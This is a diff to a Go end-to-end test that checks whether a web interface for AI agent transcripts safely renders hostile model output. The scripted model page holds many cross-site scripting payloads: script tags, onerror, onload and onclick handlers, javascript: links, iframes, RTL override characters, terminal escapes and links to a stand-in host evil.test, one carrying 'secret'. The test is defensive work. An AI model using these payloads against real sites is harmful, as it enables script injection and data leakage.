@@ -1,6 +1,7 @@
 package e2e_test
 
 import (
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -78,4 +79,74 @@ func TestWeb(t *testing.T) {
 	cleanPage(t, p, w)
 	again := rig.OpenPage(t, w.Link, 800, 600)
 	again.Shows("This page opens with a link that works once.")
+}
+
+// hostilePage is a model whose every text would do something if the page let it.
+const hostilePage = `
+[[step]]
+do = [{ text = """
+<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
+
+![leak](https://evil.test/leak.png) ![data](data:text/html,<script>window.hacked=3</script>)
+
+[a link](javascript:window.hacked=4) [another](https://evil.test/?q=secret) <https://evil.test/auto>
+
+<iframe src="https://evil.test/frame"></iframe> <style>* { display: none }</style> <svg onload="window.hacked=5"></svg>
+
+| <b onclick="window.hacked=6">a</b> | \u202egnp.exe |
+| --- | --- |
+| ![x](https://evil.test/cell.png) | <a href="https://evil.test/a" onmouseover="window.hacked=7">x</a> |
+
+` + "```html\n<script>window.hacked = 8</script>\n```" + `
+""" }, { call = "exec_command", id = "c1", args = { cmd = "echo '<img src=https://evil.test/out.png onerror=window.hacked=9>'; printf '\\\\033]8;;https://evil.test/osc\\\\007link\\\\033]8;;\\\\007'; head -c 300000 /dev/zero | tr '\\\\0' x", sandbox_permissions = "require_escalated", justification = "<img src=https://evil.test/why.png onerror=window.hacked=10>\u202e" , login = false } }]
+[[step]]
+do = [{ call = "apply_patch", id = "c2", args = { input = "*** Begin Patch\n*** Add File: <img src=x onerror=window.hacked=11>.html\n+<script>window.hacked = 12</script><img src=https://evil.test/diff.png>\n*** End Patch\n" } }]
+[[step]]
+times = -1
+do = [{ text = "Finished." }]
+`
+
+// What others wrote is text: no script runs, nothing is asked of another server, and what would hide or reorder text is visible.
+func TestWebHostileContent(t *testing.T) {
+	t.Parallel()
+	r := rig.New(t, hostilePage)
+	w := r.Web(webAsks...)
+	p := rig.OpenPage(t, w.Link, 1000, 900)
+	p.Shows("What shall be done?")
+	p.Until(`document.activeElement?.tagName === "TEXTAREA"`)
+	p.Type("<img src=https://evil.test/user.png onerror=window.hacked=13> go")
+	p.Key("Enter")
+	p.Shows("May this command run?", "<img src=https://evil.test/why.png", "<script>window.hacked = 1</script>", "picture: leak", "a link (javascript:window.hacked=4)",
+		"another (evil.test)", "\ufffdgnp.exe")
+	p.Shot("question.png")
+	p.Click("Yes, this time")
+	p.Shows("Finished.", "<img src=https://evil.test/out.png", "window.hacked=11", "<script>window.hacked = 12</script>", "more characters")
+	p.Shot("done.png")
+	if got := p.Eval("String(window.hacked)"); got != `"undefined"` {
+		t.Errorf("script %s of a model has run", got)
+	}
+	if got := p.Eval(`document.querySelectorAll(".transcript img, .transcript iframe, .transcript style, .transcript svg, .transcript script, .question img, .threads img").length`); got != "0" {
+		t.Errorf("%s elements come from a model", got)
+	}
+	if got := p.Eval(`[...document.querySelectorAll(".transcript a")].filter((a) => !/^https?:$/.test(a.protocol) || a.target !== "_blank" || !a.rel.includes("noopener")).length`); got != "0" {
+		t.Errorf("%s links do more than to lead elsewhere", got)
+	}
+	if got := p.Eval("/[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.body.innerText)"); got != "false" {
+		t.Error("the order of text can be changed")
+	}
+	cleanPage(t, p, w)
+	// The browser itself refuses what a mistake of the page would do.
+	for _, attempt := range []string{
+		`document.body.insertAdjacentHTML("beforeend", "<b>x</b>")`, `document.body.innerHTML = "x"`, `eval("1")`, `new Function("1")`,
+		`trustedTypes.createPolicy("x", {})`, `Object.assign(document.createElement("script"), { src: "https://evil.test/x.js" })`,
+	} {
+		if got := p.Eval(fmt.Sprintf(`(() => { try { %s; return "done" } catch { return "refused" } })()`, attempt)); got != `"refused"` {
+			t.Errorf("%s: %s", attempt, got)
+		}
+	}
+	for _, attempt := range []string{`fetch("https://evil.test/")`, `fetch("http://127.0.0.1:1/")`} {
+		if got := p.Eval(attempt + `.then(() => "done", () => "refused")`); got != `"refused"` {
+			t.Errorf("%s: %s", attempt, got)
+		}
+	}
 }
